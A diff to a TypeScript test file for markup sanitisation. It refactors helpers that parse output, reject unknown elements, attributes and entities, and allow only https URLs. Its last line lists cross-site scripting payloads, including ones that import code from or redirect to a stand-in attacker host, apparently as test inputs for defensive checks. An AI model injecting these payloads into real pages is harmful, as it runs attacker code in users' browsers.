@@ -158,8 +158,9 @@ function parse(source: string): { elements: Element[]; texts: string[] } {
     if (!found) throw new Error(`no tag of ours: ${rest.slice(0, 80)}`);
     const [all, isEnd, name = '', params = '', isEmpty] = found;
     rest = rest.slice(all.length);
-    if (isEnd) expect(open.pop()).toBe(name);
-    else {
+    if (isEnd) {
+      if (open.pop() !== name) throw new Error(`</${name}> closes another element`);
+    } else {
       const pairs = [...params.matchAll(/ ([\w-]+)="([^"]*)"/g)];
       elements.push({
         name,
@@ -173,7 +174,7 @@ function parse(source: string): { elements: Element[]; texts: string[] } {
 }
 
 function decode(text: string): string {
-  expect(text.replace(/&#\d+;/g, '')).not.toContain('&');
+  if (text.replace(/&#\d+;/g, '').includes('&')) throw new Error(`an entity that is not ours: ${text}`);
   return text.replace(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)));
 }
 
@@ -195,14 +196,14 @@ const ours: Record<string, readonly string[]> = {
   text: ['class', 'x', 'y', 'font-size', 'textLength', 'lengthAdjust'],
 };
 
-/** Expects only known elements and attributes, and only harmless URLs. */
+/** Expects only known elements and attributes, and only harmless URLs. One `expect` for each of them would take ten times as long. */
 function expectOnlyOurs(source: string): void {
-  for (const { name, attributes } of parse(source).elements) {
-    expect(Object.keys(ours)).toContain(name);
-    for (const key of Object.keys(attributes)) expect(ours[name]).toContain(key);
-    if (attributes.src !== undefined) expect(attributes.src).toMatch(/^https:/i);
-    if (attributes.class !== undefined) expect(attributes.class).toMatch(/^[a-z -]*$/);
-  }
+  const isOurs = ({ name, attributes }: Element) =>
+    ours[name] !== undefined &&
+    Object.keys(attributes).every((key) => ours[name]?.includes(key)) &&
+    /^https:/i.test(attributes.src ?? 'https:') &&
+    /^[a-z -]*$/.test(attributes.class ?? '');
+  expect(parse(source).elements.filter((element) => !isOurs(element))).toEqual([]);
 }
 
 const scripts = ['alert(1)', 'alert`1`', 'eval(name)', 'import("//evil.example")', 'location="//evil.example"'];
